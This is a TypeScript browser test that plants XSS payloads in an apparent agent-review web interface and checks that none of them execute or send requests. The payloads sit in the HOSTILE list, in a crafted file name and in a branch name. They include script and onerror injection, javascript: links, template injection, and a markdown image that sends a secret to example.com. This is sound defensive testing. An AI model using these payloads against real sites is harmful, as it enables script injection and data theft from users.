/** What agents wrote to be executed by whoever reads it. Not one script of theirs runs, and not one request leaves. */
import { describe, expect, it } from 'vitest';

import { openBrowser } from '../../kit/page-browser.ts';
import { pageWorld } from '../../kit/page-world.ts';

const MARK = 'window.owned=1';
const HOSTILE = [
  `<script>${MARK}</script>`,
  `<img src=x onerror="${MARK}">`,
  `"><svg onload=${MARK}>`,
  `' onmouseover='${MARK}' x='`,
  `</textarea></title></style></template><script>${MARK}</script>`,
  `[go](javascript:${MARK})`,
  `![see](https://example.com/?d=secret)`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `{{constructor.constructor('${MARK}')()}}`,
  `<a href="javascript:${MARK}" autofocus onfocus="${MARK}">x</a>`,
  `<base href="https://example.com/"><link rel=stylesheet href="https://example.com/x.css">`,
  `<meta http-equiv=refresh content="0;url=https://example.com/">`,
  `<form action=https://example.com><button autofocus>x</button></form>`,
  '\u202e\u2066<b>\u0007\u001b]0;owned\u0007',
];

describe('hostile words', () => {
  it('are shown, and nothing else', { timeout: 600_000 }, async () => {
    const world = pageWorld({ 'old.txt': 'old\n' });
    const text = HOSTILE.join('\n\n');
    const name = `x"><img src=x onerror=${MARK}>.ts`.replaceAll('/', '-');
    world.night(
      'hostile',
      {
        files: {
          [name]: `${HOSTILE.join('\n')}\n`,
          'page.html': HOSTILE.join('\n'),
          'notes.md': text,
        },
        message: HOSTILE.slice(0, 4).join(' '),
        out: {
          'report.md': `## Summary\n\n${text}\n\n## Findings\n\n${text}\n`,
          'findings.jsonl': HOSTILE.map(
            (title) => `${JSON.stringify({ title, body: text })}\n`,
          ).join(''),
          // The last text has letters that cannot be seen; without it the request is shown as Markdown.
          'proposals.jsonl': [text, HOSTILE.slice(0, -1).join('\n\n')]
            .map(
              (body, at) =>
                `${JSON.stringify({ type: 'file-item', key: `RM-${at + 1}`, title: HOSTILE[1], body, findings: [] })}\n`,
            )
            .join(''),
        },
      },
      'workspace: { isolation: private }\noutputs: { file-item: { tracker: local, max: 5 } }\n',
    );
    world.night('asks', {
      asks: {
        told: 'never',
        question: { question: text, options: HOSTILE.slice(0, 6), default: HOSTILE[0] },
      },
    });
    world.repo.git('branch', `feat/<img-src=x-onerror=${MARK}>`, 'main');
    const watched = await openBrowser(world.open());
    const { page, seen } = watched;
    const origin = new URL(page.url()).origin;
    const visited = new Set<string>();
    const wanted = [
      '/',
      '/inbox',
      '/runs',
      '/review',
      '/review?others=1',
      '/outbox',
      '/questions',
      '/findings',
      '/items',
      '/search?q=owned',
      '/sessions',
    ];
    while (wanted.length > 0 && visited.size < 40) {
      const path = wanted.shift() ?? '/';
      if (visited.has(path)) continue;
      visited.add(path);
      await page.goto(`${origin}${path}`);
      await page.mouse.wheel(0, 3_000);
      await page.mouse.move(400, 300);
      for (const link of await page
        .locator('main a[href^="/"]')
        .evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? '')))
        if (/^\/(runs|review|outbox|questions|inbox)\//.test(link) && !/\?(from|alike)/.test(link))
          wanted.push(link.split('#')[0] ?? '');
      const ran: unknown = await page.evaluate('window.owned');
      expect([path, ran]).toEqual([path, undefined]);
      expect(
        await page
          .locator('main iframe, main base, main script, main img, main [onerror], main [onload]')
          .count(),
      ).toBe(0);
    }
    expect([...visited].some((path) => path.startsWith('/review/branch/'))).toBe(true);
    expect([...visited].some((path) => path.startsWith('/outbox/P-'))).toBe(true);
    expect(seen).toEqual([]);
  });
});
